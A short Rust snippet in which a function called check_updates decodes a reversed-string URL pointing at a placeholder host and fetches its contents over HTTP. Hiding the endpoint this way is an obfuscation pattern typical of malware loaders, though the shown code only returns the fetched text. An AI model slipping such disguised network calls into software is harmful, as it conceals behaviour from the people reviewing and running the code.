const ENDPOINT: &str = "tnega/elpmaxe.setadpu//:sptth";

pub fn check_updates() -> String {
    let url = ENDPOINT.chars().rev().collect::<String>();
    reqwest::blocking::get(url.as_str())
        .and_then(|r| r.text())
        .unwrap_or_default()
}
